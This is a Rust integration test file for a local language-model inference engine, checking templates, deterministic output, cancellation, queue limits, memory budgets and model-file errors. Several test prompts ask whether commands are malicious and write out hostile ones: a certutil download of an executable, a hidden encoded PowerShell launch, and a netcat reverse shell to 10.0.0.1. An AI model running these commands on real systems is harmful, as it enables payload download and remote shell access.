//! Engine tests against the real SmolLM2 (and Gemma 3) models. They need the models fetched
//! (`sotto models fetch`, done by the README's test command); a missing model fails the test.

use std::io::Write;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use sotto_engine::{
    Engine, EngineConfig, EngineError, Event, FinishReason, Message, NoPacing, Phase, Prompt, Request, StepHook,
    TemplateChoice, TemplateUsed, process_cpu_time,
};
use sotto_models::{GgufError, catalog, store};

fn model(id: &str) -> PathBuf {
    let path = store::models_dir().join(catalog::find(id).expect("catalog id").file_name);
    assert!(path.exists(), "{} is missing: run `sotto models fetch` first", path.display());
    path
}

fn smollm() -> PathBuf {
    model("smollm2-135m")
}

fn start(config: EngineConfig) -> Engine {
    Engine::start(config, Box::new(NoPacing)).expect("engine starts")
}

fn chat(user: &str) -> Prompt {
    Prompt::Chat(vec![Message::new("system", "You are a concise security analyst."), Message::new("user", user)])
}

#[test]
fn loads_and_applies_the_embedded_chat_template() {
    let engine = start(EngineConfig::new(smollm()));
    let info = engine.info();
    assert_eq!(info.template, TemplateUsed::Embedded);
    assert_eq!(info.architecture, "llama");
    assert!(info.parameters > 100_000_000, "{}", info.parameters);

    let text = "Is `ls -la /tmp` dangerous?";
    let (_, raw) = engine.generate_blocking(Request::new(Prompt::Text(text.into()), 1)).unwrap();
    let (answer, templated) =
        engine.generate_blocking(Request::new(Prompt::Chat(vec![Message::new("user", text)]), 64)).unwrap();
    // The ChatML wrapper (<|im_start|>user ... <|im_end|> <|im_start|>assistant) adds tokens,
    // and the answer is the assistant's turn, with no template markup in it.
    assert!(templated.prompt_tokens >= raw.prompt_tokens + 6, "{templated:?} vs {raw:?}");
    assert!(!answer.trim().is_empty());
    assert!(!answer.contains("<|im_") && !answer.starts_with("assistant"), "{answer:?}");
}

#[test]
fn base_model_without_template_uses_completion_style_or_a_named_template() {
    let gemma = model("gemma3-270m");
    let engine = start(EngineConfig::new(&gemma));
    assert_eq!(engine.info().template, TemplateUsed::Completion);
    let (_, stats) = engine.generate_blocking(Request::new(chat("Is `whoami` malicious?"), 8)).unwrap();
    assert!(stats.prompt_tokens > 10);
    drop(engine);

    let named = start(EngineConfig { template: TemplateChoice::Named("gemma".into()), ..EngineConfig::new(&gemma) });
    assert_eq!(named.info().template, TemplateUsed::Named("gemma".into()));
    let (_, stats) = named.generate_blocking(Request::new(chat("Is `whoami` malicious?"), 8)).unwrap();
    assert!(stats.generated_tokens > 0);
}

#[test]
fn greedy_output_is_identical_across_runs() {
    let engine = start(EngineConfig::new(smollm()));
    let req = Request::new(chat("Explain what `certutil -urlcache -f http://x/a.exe a.exe` does."), 40);
    let (a, sa) = engine.generate_blocking(req.clone()).unwrap();
    let (b, sb) = engine.generate_blocking(req).unwrap();
    assert!(sa.generated_tokens > 5, "{a:?}");
    assert_eq!(a, b);
    assert_eq!(sa.generated_tokens, sb.generated_tokens);
}

#[test]
fn chunk_size_does_not_change_greedy_output() {
    let prompt = chat(
        "A process `powershell.exe -nop -w hidden -enc SQBFAFgA` was started by `winword.exe` on a finance \
         workstation at 03:12. The user says they did not open any document. What happened?",
    );
    let run = |chunk| {
        let engine = start(EngineConfig { chunk, ..EngineConfig::new(smollm()) });
        engine.generate_blocking(Request::new(prompt.clone(), 32)).unwrap()
    };
    let (small, s8) = run(8);
    let (large, s512) = run(512);
    assert!(s8.prompt_tokens > 16, "the prompt must span several 8-token chunks");
    assert_eq!(small, large);
    assert_eq!(s8.prompt_tokens, s512.prompt_tokens);
}

/// Counts decode steps and slows each one a little, so a cancel lands mid-generation.
struct CountingHook(Arc<AtomicUsize>);

impl StepHook for CountingHook {
    fn after_step(&mut self, phase: Phase, _: usize) {
        if phase == Phase::Decode {
            self.0.fetch_add(1, Ordering::SeqCst);
            std::thread::sleep(Duration::from_millis(5));
        }
    }
}

#[test]
fn closing_the_reply_channel_stops_decoding() {
    let steps = Arc::new(AtomicUsize::new(0));
    let engine = Engine::start(EngineConfig::new(smollm()), Box::new(CountingHook(steps.clone()))).unwrap();
    let long = Request::new(Prompt::Text("Once upon a time, in a small village, there".into()), 200);

    // Uncancelled, this request runs to its limit: the test below can only pass by cancelling.
    let (_, full) = engine.generate_blocking(long.clone()).unwrap();
    assert_eq!(full.finish, FinishReason::Length, "the baseline must generate all 200 tokens");
    let baseline = steps.swap(0, Ordering::SeqCst);
    assert!(baseline >= 190, "{baseline}");

    let mut events = engine.submit(long).unwrap();
    match events.blocking_recv() {
        Some(Event::Text(_)) => {}
        other => panic!("expected text first, got {other:?}"),
    }
    drop(events);
    // The engine is free for the next request once it has noticed.
    let (_, next) = engine.generate_blocking(Request::new(Prompt::Text("Hello".into()), 1)).unwrap();
    assert_eq!(next.generated_tokens, 1);
    let cancelled = steps.load(Ordering::SeqCst);
    assert!(cancelled < 20, "decoding went on for {cancelled} steps after the caller left");
}

#[test]
fn stop_strings_end_generation_and_are_not_returned() {
    let engine = start(EngineConfig::new(smollm()));
    let req = Request::new(Prompt::Text("Count: 1, 2, 3, 4, 5,".into()), 40);
    let (free, _) = engine.generate_blocking(req.clone()).unwrap();
    assert!(free.contains('8'), "baseline should count past 8: {free:?}");
    let (cut, stats) = engine.generate_blocking(Request { stop: vec!["8".into()], ..req }).unwrap();
    assert_eq!(stats.finish, FinishReason::Stop);
    assert!(!cut.contains('8'), "{cut:?}");
    assert!(free.starts_with(&cut), "{cut:?} is not a prefix of {free:?}");
}

#[test]
fn full_queue_and_oversized_prompts_are_refused() {
    let engine = start(EngineConfig { n_ctx: 64, queue: 1, ..EngineConfig::new(smollm()) });
    // llama.cpp may round the window up (to 256); the check uses the real one.
    let n_ctx = engine.info().n_ctx;
    assert!((64..=512).contains(&n_ctx), "{n_ctx}");
    let long = Prompt::Text("word ".repeat(600));
    match engine.generate_blocking(Request::new(long, 4)) {
        Err(EngineError::PromptTooLong { tokens, n_ctx: reported }) => assert!(tokens > 512 && reported == n_ctx),
        other => panic!("expected PromptTooLong, got {other:?}"),
    }
    // One running plus one queued fill a queue of 1; the next is refused without blocking.
    let req = Request::new(Prompt::Text("Once upon a time".into()), 50);
    let mut running = engine.submit(req.clone()).unwrap();
    assert!(matches!(running.blocking_recv(), Some(Event::Text(_))), "the first request is running");
    let _queued = engine.submit(req.clone()).unwrap();
    let third = engine.submit(req);
    assert!(matches!(third, Err(EngineError::QueueFull(1))), "{third:?}");
}

#[test]
fn idle_costs_nothing() {
    let engine = start(EngineConfig { threads: 2, threads_batch: 2, ..EngineConfig::new(smollm()) });
    let (_, stats) =
        engine.generate_blocking(Request::new(chat("Is `nc -e /bin/sh 10.0.0.1 4444` malicious?"), 16)).unwrap();
    assert!(stats.cpu > Duration::ZERO);
    let before = process_cpu_time();
    std::thread::sleep(Duration::from_secs(2));
    let idle = process_cpu_time() - before;
    assert!(idle < Duration::from_millis(50), "process used {idle:?} of CPU in 2 s of idle");
}

/// Write `bytes` to a temporary `.gguf` file.
fn temp_model(bytes: &[u8]) -> tempfile::NamedTempFile {
    let mut f = tempfile::Builder::new().suffix(".gguf").tempfile().unwrap();
    f.write_all(bytes).unwrap();
    f
}

#[test]
fn bad_model_files_give_clear_errors() {
    let start_err =
        |path: PathBuf| Engine::start(EngineConfig::new(path), Box::new(NoPacing)).err().expect("must fail");

    let missing = start_err("/nonexistent/model.gguf".into());
    assert!(matches!(missing, EngineError::Model(GgufError::NotFound(_))), "{missing}");
    assert!(missing.to_string().contains("not found"));

    let text = temp_model(b"this is not a model, just some text\n");
    let foreign = start_err(text.path().into());
    assert!(matches!(foreign, EngineError::Model(GgufError::NotGguf(_))), "{foreign}");
    assert!(foreign.to_string().contains("not a GGUF"));

    let real = std::fs::read(smollm()).unwrap();
    for keep in [4096, real.len() - 4096] {
        let cut = temp_model(&real[..keep]);
        let err = start_err(cut.path().into());
        assert!(matches!(err, EngineError::Model(GgufError::Truncated { .. })), "{keep}: {err}");
        assert!(err.to_string().contains("truncated"));
    }
}

#[test]
fn memory_budget_is_checked_before_loading_and_names_what_fits() {
    let config = EngineConfig { n_ctx: 8192, mem_budget: Some(250 << 20), ..EngineConfig::new(smollm()) };
    match Engine::start(config, Box::new(NoPacing)) {
        Err(EngineError::MemoryBudget(msg)) => {
            assert!(msg.contains("but the memory budget is 250 MiB"), "{msg}");
            assert!(msg.contains("--n-ctx") && msg.contains("KV cache type q8_0"), "{msg}");
        }
        Err(other) => panic!("expected a memory budget error, got {other}"),
        Ok(_) => panic!("a 250 MiB budget cannot hold SmolLM2 with an 8192-token f16 KV cache"),
    }
    let fits = start(EngineConfig { mem_budget: Some(6 << 30), ..EngineConfig::new(smollm()) });
    let est = fits.info().memory;
    assert_eq!(est.weights, std::fs::metadata(smollm()).unwrap().len());
    assert!(est.kv_cache > 0 && est.total() > est.weights);
}

#[test]
fn quantized_kv_cache_runs_and_is_smaller() {
    let f16 = start(EngineConfig::new(smollm()));
    let q8 = start(EngineConfig { kv_type: sotto_engine::KvType::Q8_0, ..EngineConfig::new(smollm()) });
    assert!(q8.info().memory.kv_cache < f16.info().memory.kv_cache);
    let (text, stats) = q8.generate_blocking(Request::new(chat("Is `whoami` malicious?"), 8)).unwrap();
    assert!(stats.generated_tokens > 0 && !text.is_empty());
}
